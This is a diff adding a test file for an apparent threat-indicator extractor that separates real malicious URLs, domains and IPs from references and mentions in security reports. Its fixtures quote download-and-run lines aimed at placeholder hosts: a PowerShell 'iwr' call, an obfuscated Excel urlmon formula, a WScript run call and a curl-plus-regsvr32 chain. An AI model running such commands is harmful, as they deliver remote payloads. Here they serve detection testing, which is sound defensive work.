@@ -1,0 +1,115 @@
+"""What running text lists and what it only mentions, line by line."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from lamsach.indicators import refusals
+from lamsach.indicators.mentions import Prose, Section
+from lamsach.indicators.refusals import Refused
+
+
+def judged(*lines: str) -> list[tuple[str, str | None]]:
+    """Value and reason (None: taken) of everything with a type in the last line."""
+    prose = Prose()
+    found = []
+    for line in lines:
+        found = prose.line(line)
+    return [
+        (item.value or "", item.reason) if isinstance(item, Refused) else (item[1], None)
+        for item in found
+        if not isinstance(item, Refused) or item.type is not None
+    ]
+
+
+@pytest.mark.parametrize(
+    ("lines", "expected"),
+    [
+        # code
+        (
+            ["var a=new ActiveXObject('wscript.shell'); a.run('http://evil-a.top/x')"],
+            [("wscript.shell", refusals.CODE), ("a.run", refusals.CODE), ("http://evil-a.top/x", None)],
+        ),
+        (
+            ['powershell -c "iwr evil-b.top/s; ping google.com"'],
+            [("evil-b.top/s", None), ("google.com", refusals.CODE)],
+        ),
+        (
+            ['=CALL("urlmon","x",0,"h"&"ttp"&"://evil"&"-c.to"&"p/a.png",0)'],
+            [("http://evil-c.top/a.png", None)],
+        ),
+        (["  n.open('GET', e, false)"], [("n.open", refusals.CODE)]),
+        (
+            ['var key = "5f4dcc3b5aa765d61d8327deb882cf99";'],
+            [("5f4dcc3b5aa765d61d8327deb882cf99", refusals.CODE_HASH)],
+        ),
+        # keys and versions
+        (
+            ["License Code: 5F4DCC3B5AA765D61D8327DEB882CF99"],
+            [("5f4dcc3b5aa765d61d8327deb882cf99", refusals.CODE_HASH)],
+        ),
+        (["NanoCore Client, Version=1.2.2.0, Culture=neutral"], [("1.2.2.0", refusals.VERSION)]),
+        (["phiên bản 5.6.7.8 kết nối 203.0.113.9"], [("5.6.7.8", refusals.VERSION), ("203.0.113.9", None)]),
+        # files under a heading of hashes
+        (["PAYLOAD FILE HASHES", "Deal.one"], [("deal.one", refusals.FILE_NAME)]),
+        (["Mã băm:", "test.app"], [("test.app", refusals.FILE_NAME)]),
+        (["FILE HASHES", "C2 DOMAINS", "deal.one"], [("deal.one", None)]),
+        (["FILE HASHES", "deal[.]one"], [("deal.one", None)]),
+        # mail
+        (["SUBJECTS OBSERVED", "Migrating from sign-a.com"], [("sign-a.com", refusals.IN_SENTENCE)]),
+        (["ernest irvine-a.net <help@evil-d.top>"], [("irvine-a.net", refusals.IN_SENTENCE)]),
+        # references
+        (["References:", "https://blog-a.com/post"], [("https://blog-a.com/post", refusals.REFERENCE)]),
+        (["Tài liệu tham khảo", "https://blog-a.com/post"], [("https://blog-a.com/post", refusals.REFERENCE)]),
+        (["Tài liệu tham khảo", "hxxps://evil-e[.]top/post"], [("https://evil-e.top/post", None)]),
+        (
+            ["Theo https://ncsc.gov.vn/canh-bao/1 thì máy chủ là evil-f[.]top."],
+            [("https://ncsc.gov.vn/canh-bao/1", refusals.REFERENCE), ("evil-f.top", None)],
+        ),
+        (["See github.com/evil-a/loader for it"], [("github.com/evil-a/loader", None)]),
+        (["Built with ASP.NET and google.com"], [("asp.net", refusals.WELL_KNOWN), ("google.com", refusals.WELL_KNOWN)]),
+        # apps
+        (
+            ["Game Pro 5f4dcc3b5aa765d61d8327deb882cf99 org.game.top"],
+            [("5f4dcc3b5aa765d61d8327deb882cf99", None), ("org.game.top", refusals.PACKAGE)],
+        ),
+        # what stays an indicator
+        (["The malware connects to evil-g.top every hour"], [("evil-g.top", None)]),
+        (["203.0.113.5:443"], [("203.0.113.5", None)]),
+        (["http://evil-h.top/a(1).php"], [("http://evil-h.top/a(1).php", None)]),
+        (["'https://evil-i.top/editContent',"], [("https://evil-i.top/editContent", None)]),
+        (["curl -O http://203.0.113.5/1.dat&&regsvr32 x"], [("http://203.0.113.5/1.dat", None)]),
+        (["srs0=a=b=evil-j.top=name@evil-k.top"], []),
+    ],
+)  # fmt: skip
+def test_lines(lines: list[str], expected: list[tuple[str, str | None]]) -> None:
+    assert judged(*lines) == expected
+
+
+def test_the_threat_that_a_line_names_holds_for_what_follows() -> None:
+    prose = Prose()
+    prose.line("Malware family: Mirai")
+    assert prose.threat == "Mirai"
+    prose.line("Mã độc: **Mozi**")
+    assert prose.threat == "Mozi"
+    prose.line("Threat: hxxp://evil-a[.]top/x")
+    assert prose.threat == "Mozi"
+
+
+def test_a_page_header_lists_nothing() -> None:
+    prose = Prose()
+    prose.section = Section.MARGIN
+    found = prose.line("CỤC A - evil-a.top - 203.0.113.5")
+    assert [item.reason for item in found if isinstance(item, Refused)] == [refusals.MARGIN] * 2
+    prose.heading("REFERENCES")
+    assert prose.section is Section.MARGIN
+
+
+@given(st.text(alphabet="ab.:/[]()<>@#=|`*\"'\\$&; \tx0123456789-évp", max_size=200))
+def test_any_text_is_read(text: str) -> None:
+    prose = Prose()
+    for line in (text, text):
+        for item in prose.line(line):
+            assert isinstance(item, Refused) or item[1]
